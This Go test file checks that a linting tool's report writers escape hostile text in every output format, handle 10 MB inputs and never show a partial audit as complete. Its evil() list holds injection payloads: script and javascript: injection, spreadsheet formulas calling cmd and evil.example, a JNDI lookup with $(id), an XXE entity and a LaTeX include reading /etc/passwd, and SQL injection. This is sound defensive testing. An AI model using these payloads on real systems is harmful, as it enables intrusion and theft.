package reports_test

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"leadlint/reports"
	"leadlint/reports/internal/specimen"
	"leadlint/scanner/finding"
)

// evil are texts that do harm where something takes them for more than texts. Each is
// there again with letters before it, since some act at the start only.
func evil() []string {
	return []string{
		`<script>alert("x")</script><img src="http://evil.example/p.png" onerror="alert(1)">`,
		`"><a href="javascript:alert(1)">x</a><iframe src=//evil.example>`,
		`=cmd|'/C calc'!A0`, `+SUM(A1:A9)`, `@SUM(1)`, "-1+HYPERLINK(\"http://evil.example\")", "x;=WEBSERVICE(\"http://evil.example\")",
		"\t=1+1", "\r=1+1", "\n::error::forged", "%0A::error file=x::forged%0D%0A::add-mask::x",
		"\x1b[2J\x1b[31mred\x1b]0;title\x07", "\u009b31mred\u0090q", "abc\u202egnp.exe\u2066\u200f", "bad\xff\xfe\xc0\xafutf8", "nul\x00\x01\x7f",
		"line\u2028two\u2029three\u0085four", `{{.Report}}{{template "x"}}{{printf "%s" .}}`, `${jndi:ldap://evil.example/a}$(id)` + "`id`",
		`]]><!--></testcase><!ENTITY x SYSTEM "file:///etc/passwd">&x;`, `</style></title></textarea><svg onload=alert(1)>`,
		`![x](http://evil.example/p.png) [y](javascript:alert(1)) <b>| a | b |`, "| x |\n|---|\n```\n# head", `_x000D_=1+1_x0009_`, `\u202e\x1b[31m'; DROP TABLE x; --`,
		`% & # $ _ ^ ~ \input{/etc/passwd}`, "\U000e0041\U000e0042\ufeff\ufffe\uffff", strings.Repeat("é\u0301", 400),
	}
}

// whole gives a report with something of everything.
func whole() *finding.Report {
	r, code := specimen.Living(), specimen.Code()
	r.Findings = append(r.Findings, code.Findings...)
	r.Code, r.Notes = code.Code, []finding.Text{{EN: "a remark", FR: "une remarque"}}
	r.Coverage.Complete = false
	r.Coverage.Issues = append(r.Coverage.Issues, specimen.Incomplete().Coverage.Issues...)
	part := specimen.Sampled()
	r.Coverage.Sample, r.Coverage.Issues = part.Coverage.Sample, append(r.Coverage.Issues, part.Coverage.Issues...)
	r.Findings = append(r.Findings, part.Findings...)
	return r
}

// coded are the strings of the model's own vocabulary, days, hashes and places, which no
// input can set.
var coded = regexp.MustCompile(`^([a-z_]{1,24}|[A-Z]{1,2}|[0-9-]{10}|P[0-9]+[DMY]|[0-9a-f]{64}|1:[0-9a-f]{32}|[A-Z]{3}-[0-9A-Z-]+|leadlint.*|[a-z/-]+\.yaml:[0-9]+|[0-9]+\([0-9]\)(\([a-z]\))?|https://.*)$`)

// hostile gives a report whose texts are evil: all but those that no input can set, or
// really all.
func hostile(shift int, all bool) *finding.Report {
	r, n, texts := whole(), shift, evil()
	specimen.Strings(r, func(s string) string {
		if !all && coded.MatchString(s) {
			return s
		}
		n++
		if n%2 == 0 {
			return texts[n/2%len(texts)] + s
		}
		return s + texts[n/2%len(texts)]
	})
	return r
}

// written gives a report in every format.
func written(t testing.TB, r *finding.Report, opt reports.Options) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	for _, f := range reports.Formats() {
		var b bytes.Buffer
		if err := f.Write(&b, r, opt); err != nil {
			t.Errorf("%s: %v", f.Name, err)
			continue
		}
		out[f.Name] = b.Bytes()
	}
	return out
}

// TestHostile writes reports full of evil texts in every format, and holds what is written
// against what a reader of that kind of file must not meet.
func TestHostile(t *testing.T) {
	for i, opt := range []reports.Options{{}, {Lang: "fr", Verbose: true, Scope: true, Waived: true}} {
		for _, all := range []bool{false, true} {
			for shift := 0; shift < len(evil()); shift += 14 {
				t.Run(fmt.Sprintf("%d-%v-%d", i, all, shift), func(t *testing.T) {
					data := written(t, hostile(shift+i, all), opt)
					for _, f := range reports.Formats() {
						t.Run(f.Name, func(t *testing.T) { inspect(t, f, data[f.Name]) })
					}
				})
			}
		}
	}
}

// TestHuge: a text of 10 MB in a title, a head or the name of a file makes nothing
// much larger that people read, and is at most copied where a file is for machines.
func TestHuge(t *testing.T) {
	r := whole()
	huge := strings.Repeat("huge =<b>\x1b[1m ", 10<<20/14)
	r.Findings[0].Title.EN, r.Findings[1].Subject.Columns, r.Findings[2].Subject.Dataset = huge, []string{huge}, huge
	r.Mapping[0].Columns[0].Header = huge
	for name, data := range written(t, r, reports.Options{Verbose: true}) {
		most := 4 << 20
		if name == "json" || name == "jsonl" {
			most = 200 << 20
		}
		if len(data) > most {
			t.Errorf("%s is %d bytes long", name, len(data))
		}
	}
}

// TestNeverClean: no format lets an audit that is not complete look like one that is.
func TestNeverClean(t *testing.T) {
	for _, f := range reports.Formats() {
		var partial, clean bytes.Buffer
		r := specimen.Incomplete()
		if err := f.Write(&partial, r, reports.Options{}); err != nil {
			t.Fatal(err)
		}
		r.Coverage.Complete, r.Coverage.Issues = true, nil
		if err := f.Write(&clean, r, reports.Options{}); err != nil {
			t.Fatal(err)
		}
		said := content(t, partial.Bytes())
		for _, want := range []string{"archive.parquet", "ends in the middle"} {
			if !strings.Contains(squeezed(said), squeezed(want)) {
				t.Errorf("%s does not say what was not read (%s)", f.Name, want)
			}
		}
		if bytes.Equal(partial.Bytes(), clean.Bytes()) {
			t.Errorf("%s is the same for a partial audit as for a whole one", f.Name)
		}
	}
}

func squeezed(s string) string { return strings.Join(strings.Fields(s), "") }
